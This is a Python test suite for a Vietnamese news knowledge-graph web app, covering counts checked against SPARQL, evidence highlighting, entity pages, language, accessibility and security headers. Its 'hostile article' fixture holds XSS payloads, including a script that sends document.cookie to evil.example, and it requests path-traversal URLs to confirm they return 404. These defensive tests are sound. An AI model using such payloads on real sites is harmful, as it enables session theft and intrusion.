"""The pages for people over the built samples: overview, article reader, entity pages, language, safety.

Numbers on the pages are checked against SPARQL counts over the same store; evidence spans
against the article's text; a hostile article (script tags, event handlers and
``javascript:`` links in its text and metadata) must render inert.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import pyoxigraph as ox
import pytest
from starlette.testclient import TestClient

from dtkg.pipeline import BuildReport, build
from dtkg.serve import create_app
from dtkg.serve.web.findings import parse_report
from dtkg.settings import Settings
from dtkg.store import load_dataset

BASE = "http://127.0.0.1:8000/id/"
HTML = {"accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
ARTICLE = "/id/article/004-viettel-quang-ngai"
COUNTS = """PREFIX schema: <https://schema.org/> PREFIX dtkg: <https://w3id.org/dtkg/ontology#>
SELECT (COUNT(DISTINCT ?a) AS ?n) WHERE { ?a a schema:NewsArticle FILTER NOT EXISTS { ?a dtkg:teaserOf ?p } }"""
AGREEMENTS = """PREFIX dtkg: <https://w3id.org/dtkg/ontology#>  # every agreement is a CooperationAgreement
SELECT (COUNT(DISTINCT ?g) AS ?n) WHERE { ?g a dtkg:CooperationAgreement }"""
BY_GROUP = """PREFIX dtkg: <https://w3id.org/dtkg/ontology#> PREFIX schema: <https://schema.org/>
SELECT ?name (COUNT(DISTINCT ?g) AS ?n) WHERE { ?g a dtkg:CooperationAgreement ; dtkg:party ?o .
GRAPH <http://127.0.0.1:8000/id/graph/reference> { ?o a schema:Corporation ; schema:name ?name } } GROUP BY ?name"""


@pytest.fixture(scope="module")
def client(samples: BuildReport, sample_store) -> TestClient:  # type: ignore[no-untyped-def]
    report = samples.output.with_name(samples.output.name + ".validation.txt")
    return TestClient(create_app(sample_store, base_iri=BASE, report=report))


def get(client: TestClient, path: str, **params: str) -> str:
    response = client.get(path, params=params or None, headers=HTML)
    assert response.status_code == 200, (path, response.text[:300])
    assert response.headers["content-type"].startswith("text/html")
    return response.text


def count(store: ox.Store, query: str) -> int:
    return int(next(iter(store.query(query, use_default_graph_as_union=True)))["n"].value)


class Tags(HTMLParser):
    """Every start tag with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def tags(page: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Tags()
    parser.feed(page)
    return parser.tags


# ---------------------------------------------------------------- overview

def test_overview_counts_match_sparql(client: TestClient, sample_store: ox.Store) -> None:
    page = get(client, "/")
    shown = dict(re.findall(r'data-count="(\w+)"><span class="number">([\d.]+)', page))
    assert int(shown["articles"]) == count(sample_store, COUNTS) == 8
    assert int(shown["agreements"]) == count(sample_store, AGREEMENTS) == 7


def test_overview_charts_match_sparql(client: TestClient, sample_store: ox.Store) -> None:
    page = get(client, "/")
    group_chart = page.split('id="chart-group"')[1].split("</figure>")[0]
    bars = {label: int(v) for label, v in re.findall(r'data-label="([^"]+)" data-value="(\d+)"', group_chart)}
    expected = {r["name"].value: int(r["n"].value) for r in sample_store.query(BY_GROUP, use_default_graph_as_union=True)}
    assert bars == expected == {"CMC": 2, "Viettel": 2, "FPT": 1, "MobiFone": 1, "VNPT": 1}
    year_chart = page.split('id="chart-year"')[1].split("</figure>")[0]
    years = dict(re.findall(r'data-label="([^"]+)" data-value="(\d+)"', year_chart))
    assert sum(int(v) for v in years.values()) == 7
    province_chart = page.split('id="chart-province"')[1].split("</figure>")[0]
    assert "Nam Định" in province_chart and "(nay thuộc Ninh Bình, từ 1/7/2025)" in province_chart
    assert ">→ Ninh Bình<" in province_chart
    assert 'role="img"' in page and "<title>" in group_chart


def test_overview_latest_articles(client: TestClient) -> None:
    latest = get(client, "/").split('id="latest"')[1].split("</ul>")[0]
    assert latest.index("001-vnpt-quang-tri") < latest.index("003-fpt-da-nang") < latest.index("004-viettel-quang-ngai")


def test_english_switch_and_cookie(client: TestClient) -> None:
    assert '<html lang="vi">' in get(client, "/")
    response = client.get("/", params={"lang": "en"}, headers=HTML)
    assert '<html lang="en">' in response.text and "Agreements by signing year" in response.text
    assert response.cookies.get("lang") == "en"
    assert '<html lang="en">' in client.get("/search?q=x", headers=HTML).text  # remembered
    client.get("/", params={"lang": "vi"}, headers=HTML)
    assert '<html lang="vi">' in get(client, "/")


# ---------------------------------------------------------------- article reader

def test_article_evidence_is_highlighted_at_its_offsets(client: TestClient, sample_store: ox.Store) -> None:
    page = get(client, ARTICLE)
    text = next(iter(sample_store.query(
        f"SELECT ?t WHERE {{ <{BASE}article/004-viettel-quang-ngai> <https://schema.org/text> ?t }}",
        use_default_graph_as_union=True)))["t"].value
    marks = re.findall(r'<mark class="ev" id="ev-(\d+)-(\d+)" data-start="\d+" data-end="\d+" title="[^"]*">'
                       r'<a href="#(fact-\d+)">([^<]*)</a></mark>', page)
    spans = count(sample_store, f"""PREFIX oa: <http://www.w3.org/ns/oa#>
        SELECT (COUNT(DISTINCT ?e) AS ?n) WHERE {{ ?e oa:hasSource <{BASE}article/004-viettel-quang-ngai> }}""")
    assert len(marks) == spans == 10
    for start, end, fact, shown in marks:
        assert shown.replace("&#34;", '"').replace("&#39;", "'") == text[int(start):int(end)]
        assert f'id="{fact}"' in page  # the mark links to its fact
        assert f'href="#ev-{start}-{end}"' in page  # and the fact back to it


def test_article_facts_grouped_by_kind(client: TestClient) -> None:
    page = get(client, ARTICLE)
    for group, n in (("agreements", 1), ("targets", 3), ("people", 4), ("quotes", 4), ("figures", 6)):
        section = page.split(f'id="facts-{group}"')[1].split("</section>")[0]
        assert section.count('data-fact="') == n, group
    agreement = page.split('id="facts-agreements"')[1].split("</section>")[0]
    assert "2021–2025" in agreement and "2020-12-18" in agreement and 'href="/id/org/viettel"' in agreement


def test_article_meta_related_and_findings(client: TestClient) -> None:
    page = get(client, ARTICLE)
    assert "Trần Hậu" in page and "2020-12-18" in page
    assert 'id="related"' in page
    findings = page.split('id="findings"')[1]
    # the one finding this article had was "Lý Sơn" read as a person; the island district is a place now (issue 15)
    assert "Không có phát hiện nào cho bài này." in findings and "PersonPositionShape" not in findings
    teased = get(client, "/id/article/002-mobifone-phu-tho")
    assert 'id="teasers"' in teased and "002-mobifone-phu-tho-related-1" in teased


def test_report_parser_reads_groups_and_details() -> None:
    lines = [
        "dtkg validate: passed",
        "",
        "a.txt  (graph <http://x/graph/article/a>)",
        '  WARNING: "Lý Sơn" <http://x/person/l>',
        "    at a.txt",
        "    property: -   value: <http://x/person/l>",
        "    The person holds no position.",
        "    rule: dtsh:PersonPositionShape (sh:SPARQLConstraintComponent)",
        "",
        "focus nodes checked per shape:",
        "       63  dtsh:AdministrativeUnitShape",
    ]
    found = parse_report(lines)
    assert list(found) == ["http://x/graph/article/a"]
    (finding,) = found["http://x/graph/article/a"]
    assert finding.severity == "warning" and finding.message == "The person holds no position."
    assert ("rule", "dtsh:PersonPositionShape (sh:SPARQLConstraintComponent)") in finding.details


# ---------------------------------------------------------------- entity pages

def test_organization_page(client: TestClient) -> None:
    page = get(client, "/id/org/viettel")
    agreements = page.split('id="agreements"')[1].split("</section>")[0]
    assert "UBND tỉnh Quảng Ngãi" in agreements and "2021–2025" in agreements and "2020-12-18" in agreements
    people = page.split('id="people"')[1].split("</section>")[0]
    assert "Phùng Văn Tiến" in people and "Phó Tổng giám đốc" in people and "Đại tá" in people
    assert 'id="articles"' in page
    assert "Viettel Group" in page  # the English name
    assert "Toàn bộ các phát biểu RDF" in page  # the full table stays


def test_person_page(client: TestClient) -> None:
    page = get(client, "/id/person/phung-van-tien-aa170e12")
    posts = page.split('id="posts"')[1].split("</section>")[0]
    assert "Phó Tổng giám đốc" in posts and 'href="/id/org/viettel"' in posts and "Đại tá" in posts
    quotes = page.split('id="quotes"')[1].split("</section>")[0]
    assert "Viettel không coi đây là một hợp đồng thương mại" in quotes


def test_place_page_with_merger_and_wikidata(client: TestClient) -> None:
    page = get(client, "/id/place/nam-dinh")
    merger = page.split('id="merger"')[1].split("</section>")[0]
    assert 'href="/id/place/ninh-binh"' in merger and "2025-07-01" in merger and "2025-06-30" in merger
    assert 'href="http://www.wikidata.org/entity/Q36907"' in page
    assert "UBND tỉnh Nam Định" in page.split('id="about"')[1].split("</dl>")[0]  # governing bodies
    successor = get(client, "/id/place/ninh-binh")
    assert 'href="/id/place/nam-dinh"' in successor.split('id="merger"')[1].split("</section>")[0]


def test_agreement_page(client: TestClient) -> None:
    page = get(client, "/id/article/004-viettel-quang-ngai/agreement/1")
    assert "UBND tỉnh Quảng Ngãi – Viettel" in page
    assert "2021–2025" in page and "2030" in page and "2020-12-18" in page
    evidence = page.split('id="evidence"')[1].split("</section>")[0]
    assert 'href="/id/article/004-viettel-quang-ngai#ev-69-250"' in evidence
    assert "chính quyền số" in page or "5G" in page  # scope concepts


def test_rdf_is_still_negotiated(client: TestClient) -> None:
    response = client.get("/id/org/viettel", headers={"accept": "text/turtle"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/turtle")
    assert client.get("/id/nothing-here", headers=HTML).status_code == 404


# ---------------------------------------------------------------- no other hosts, inert content

PAGES = ("/", ARTICLE, "/id/org/viettel", "/id/person/phung-van-tien-aa170e12", "/id/place/nam-dinh", "/query",
         "/search?q=viettel", "/concept/5g", "/reconcile/preview?id=http%3A%2F%2F127.0.0.1%3A8000%2Fid%2Forg%2Fviettel")


@pytest.mark.parametrize("path", PAGES)
def test_pages_load_nothing_from_other_hosts(client: TestClient, path: str) -> None:
    page = get(client, path)
    for tag, attrs in tags(page):
        for name in ("src", "srcset", "poster", "data"):
            if attrs.get(name):
                assert attrs[name].startswith("/"), (path, tag, attrs)  # type: ignore[union-attr]
        if tag == "link":
            assert (attrs.get("href") or "").startswith("/"), (path, attrs)
    assert "@import" not in page and "url(http" not in page
    assert "<style" not in page and " style=" not in page  # styles only from /static


HOSTILE = {
    "id": "x1",
    "url": "javascript:alert(1)",
    "title": "Viettel <script>alert('t')</script> ký với <img src=x onerror=alert(2)>",
    "author": "<b onmouseover=alert(3)>Kẻ Xấu</b>",
    "published": "2025-03-01",
    "body": ("Ngày 1/3/2025, UBND tỉnh Nam Định và Tập đoàn Viettel đã ký thỏa thuận hợp tác về chuyển đổi số "
             "giai đoạn 2025 - 2030 <script>fetch('//evil.example/'+document.cookie)</script>.\n\n"
             "Ông <img src=x onerror=alert(4)> cho biết, xem thêm tại javascript:alert(5) và "
             "<a href=\"javascript:alert(6)\">đây</a>."),
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> TestClient:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "in").mkdir()
    (folder / "in" / "hostile.jsonl").write_text(json.dumps(HOSTILE, ensure_ascii=False) + "\n", encoding="utf-8")
    report = build([folder / "in"], output=folder / "kg.nq", settings=Settings(workers=1, cache_dir=folder / "cache"))
    return TestClient(create_app(load_dataset(report.output), base_iri=BASE))


def test_hostile_article_renders_inert(hostile: TestClient) -> None:
    found = hostile.get("/search", params={"q": "viettel", "type": "article", "format": "json"}).json()["results"]
    assert found, "the hostile article was not built"
    for path in ("/", found[0]["href"], "/search?q=viettel"):
        page = get(hostile, path)
        script_tags = [a for t, a in tags(page) if t == "script"]
        assert all((a.get("src") or "").startswith("/static/") for a in script_tags), (path, script_tags)
        for tag, attrs in tags(page):
            assert not any(name.startswith("on") for name in attrs), (path, tag, attrs)
            for name in ("href", "src", "action"):
                value = (attrs.get(name) or "").strip().lower()
                assert not value.startswith(("javascript:", "data:", "vbscript:")), (path, tag, attrs)
        assert "<script>alert" not in page and "<img src=x" not in page
    article = get(hostile, found[0]["href"])
    assert "&lt;script&gt;" in article  # shown as text
    assert "javascript:alert(1)" in article.split('class="source"')[1].split("</dd>")[0]  # the URL, as text only


# ---------------------------------------------------------------- query page, static files, policies

def test_query_page_lists_the_competency_queries_and_loads_only_its_own_scripts(client: TestClient) -> None:
    from dtkg.serve.web.querypage import examples, yasgui_available
    from dtkg.serve.web.render import SCRIPTED_POLICY

    response = client.get("/query", headers=HTML)
    from dtkg import resources

    assert len(examples()) == len(list(resources.cq_dir().glob("*.rq"))) > 0
    for example in examples():
        assert f'href="/query?example={example.name}#plain"' in response.text
    scripts = [a.get("src") for t, a in tags(response.text) if t == "script"]
    if yasgui_available():
        assert scripts == ["/static/vendor/yasgui/yasgui.min.js", "/static/query.js"]
        assert response.headers["content-security-policy"] == SCRIPTED_POLICY
    else:
        assert scripts == []
    opened = client.get("/query", params={"example": "successors"}, headers=HTML).text
    assert "dtkg:successorUnit" in opened.split('<textarea id="query"')[1].split("</textarea>")[0]


def test_other_pages_keep_the_strict_policy_and_the_preview_can_be_framed(client: TestClient) -> None:
    from dtkg.serve.responses import SECURITY_HEADERS

    strict = SECURITY_HEADERS["Content-Security-Policy"]
    for path in ("/", ARTICLE, "/search?q=x", "/id/org/viettel"):
        response = client.get(path, headers=HTML)
        assert response.headers["content-security-policy"] == strict, path
        assert response.headers["x-frame-options"] == "DENY"
    preview = client.get("/reconcile/preview", params={"id": BASE + "org/viettel"})
    assert "frame-ancestors *" in preview.headers["content-security-policy"]
    assert "x-frame-options" not in preview.headers


def test_static_files(client: TestClient) -> None:
    css = client.get("/static/dtkg.css")
    assert (css.status_code, css.headers["content-type"]) == (200, "text/css; charset=utf-8")
    assert client.get("/static/query.js").headers["content-type"] == "text/javascript; charset=utf-8"
    for bad in ("/static/../web/routes.py", "/static/%2e%2e/web/routes.py", "/static/nothing.css", "/static/vendor",
                "/static/vendor/README.md"):
        assert client.get(bad).status_code == 404, bad


def test_fact_pages_show_the_fact_and_its_evidence(client: TestClient) -> None:
    quote = get(client, ARTICLE + "/quote/4")
    assert "Viettel không coi đây là một hợp đồng thương mại" in quote
    assert 'href="/id/article/004-viettel-quang-ngai#ev-2417-2625"' in quote
    assert '<span class="kind">Phát biểu</span>' in quote
    target = get(client, ARTICLE + "/target/2")
    assert "nhóm 25 tỉnh, thành phố dẫn đầu về chuyển đổi số" in target and "top 25" in target
    member = get(client, ARTICLE + "/membership/2")
    assert 'href="/id/org/viettel"' in member and "Phó Tổng giám đốc" in member and "Đại tá" in member
    assert "Toàn bộ các phát biểu RDF" in member  # the statement table stays


def test_timeline_counts_dated_articles_per_year() -> None:
    from dtkg.serve.web.entity import _timeline
    from dtkg.serve.web.render import translator

    def row(article: str, published: str | None) -> dict:  # type: ignore[type-arg]
        found = {"article": ox.NamedNode(BASE + article)}
        if published:
            found["published"] = ox.Literal(published)
        return found

    chart = _timeline(translator("vi"), [row("a", "2024-01-09"), row("b", "2024-05-01"), row("b", "2024-05-01"),
                                         row("c", "2025-08-22"), row("d", None)])
    assert chart is not None
    assert [(d.bar.label, d.bar.value) for d in chart.bars] == [("2024", 2), ("2025", 1)]
    assert _timeline(translator("vi"), [row("a", "2024-01-09"), row("d", None)]) is None


@pytest.mark.parametrize("path", PAGES)
def test_pages_are_structured_for_assistive_technology(client: TestClient, path: str) -> None:
    page = get(client, path)
    found = tags(page)
    assert [t for t, _ in found].count("h1") == 1, path
    assert re.search(r'<html lang="(vi|en)">', page)
    assert any(t == "main" for t, _ in found)
    labelled = {a.get("for") for t, a in found if t == "label"}
    for tag, attrs in found:
        if tag in ("input", "select", "textarea") and attrs.get("type") not in ("hidden", "submit", "checkbox"):
            assert attrs.get("id") in labelled or attrs.get("aria-label"), (path, tag, attrs)
        if tag == "svg" and attrs.get("role") == "img":
            assert attrs.get("aria-labelledby"), (path, attrs)
        if tag == "img":
            assert attrs.get("alt") is not None, (path, attrs)
